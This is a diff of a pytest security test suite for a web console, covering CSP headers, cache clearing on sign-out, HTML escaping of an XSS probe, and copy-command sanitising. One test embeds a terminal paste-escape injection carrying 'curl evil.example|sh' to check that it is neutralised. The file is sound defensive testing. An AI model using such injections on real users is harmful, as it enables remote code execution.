@@ -23,11 +23,11 @@ Visitor = Callable[[], Any]
 @pytest.mark.parametrize("path", ["/", "/sign-in", "/nothing", "/static/console.css", "/static/nothing", "/healthz"])
 def test_every_answer_forbids_foreign_scripts_frames_and_guessing_of_types(visitor: Visitor, path: str) -> None:
     headers = visitor().get(path).headers
-    policy = headers["content-security-policy"]
-    assert "default-src 'none'" in policy
-    assert "script-src 'self';" in policy
-    assert "frame-ancestors 'none'" in policy
-    assert "unsafe" not in policy
+    policy = dict(rule.split(" ", 1) for rule in headers["content-security-policy"].split("; "))
+    assert policy == {
+        **dict.fromkeys(("default-src", "base-uri", "frame-ancestors"), "'none'"),
+        **dict.fromkeys(("script-src", "style-src", "img-src", "connect-src", "form-action"), "'self'"),
+    }
     assert headers["x-frame-options"] == "DENY"
     assert headers["x-content-type-options"] == "nosniff"
 
@@ -130,6 +130,21 @@ def test_the_cookie_is_for_this_site_and_not_for_scripts(visitor: Visitor, conso
     assert "Path=/" in cookie
 
 
+def test_the_sign_out_removes_the_pages_that_the_browser_stored(admin: Any) -> None:
+    assert admin.post("/sign-out").headers["clear-site-data"] == '"cache"'
+
+
+def test_a_page_about_a_failure_is_not_stored_by_the_browser(admin: Any) -> None:
+    failed = admin.get("PROJECT/instances/nothing-has-this-name")
+    assert (failed.status_code, failed.headers["cache-control"]) == (404, "no-store")
+
+
+def test_a_name_that_did_not_sign_in_is_shown_as_text(visitor: Visitor) -> None:
+    page = visitor().sign_in(HOSTILE, "wrong").text
+    assert 'value="&lt;script&gt;alert(1)' in page
+    assert "<script>alert" not in page
+
+
 def test_the_token_of_the_platform_is_on_no_page_and_in_no_log(visitor: Visitor, console: Console) -> None:
     token, person = console.token(), visitor()
     path = console.link(token).removeprefix(console.url)
@@ -220,7 +235,8 @@ def test_a_stream_ends_with_the_session(visitor: Visitor, console: Console) -> N
 def test_a_command_to_copy_has_no_control_characters_of_a_link(admin: Any) -> None:
     """People trust the console, and anyone can send them a link to it. In a terminal, these characters end a paste."""
     page = admin.page(f"{LAB}/act", verb="stop", reason="\x1b[201~\rcurl evil.example|sh\r")
-    lines = [html.unescape(text) for text in re.findall(r'data-copy="([^"]*)"', page)]
+    lines = [html.unescape(text) for text in re.findall(r'data-copy="([^"]*)" aria-label="Copy as c', page)]
+    assert len(lines) == 2
     assert "evil.example" in lines[0]
     assert shlex.split(lines[0])[-3] == "\ufffd[201~\ufffdcurl evil.example|sh"
     assert all(line.isprintable() for line in lines)
